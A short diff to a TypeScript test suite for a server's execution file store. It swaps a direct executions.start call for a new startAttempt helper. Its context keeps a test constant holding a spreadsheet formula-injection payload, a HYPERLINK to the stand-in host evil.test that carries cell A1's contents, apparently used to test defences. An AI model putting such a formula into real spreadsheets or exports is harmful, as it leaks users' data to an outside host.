@@ -5,6 +5,7 @@ import { activeGeneration } from '../support/active-generation.js';
 import { EXECUTION_STORE, GENERATION_STORE, MANIFEST_STORE } from '../../apps/server/src/tokens.js';
 import { type TestApi, startTestApi } from '../support/api-app.js';
 import { UNKNOWN_ID } from '../support/registration.js';
+import { startAttempt } from '../support/start-attempt.js';
 
 const HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")';
 /** Two pages of the store and a part of a third. */
@@ -108,7 +109,7 @@ describe('the files of an execution', () => {
       requestedBy: null,
       fullSync: false,
     });
-    const run = await executions.start(id, 'pod-a', await executions.nextFence());
+    const run = await startAttempt(executions, id, 'pod-a');
     const entry = {
       mode: '100644',
       blobSha: 'a'.repeat(40),
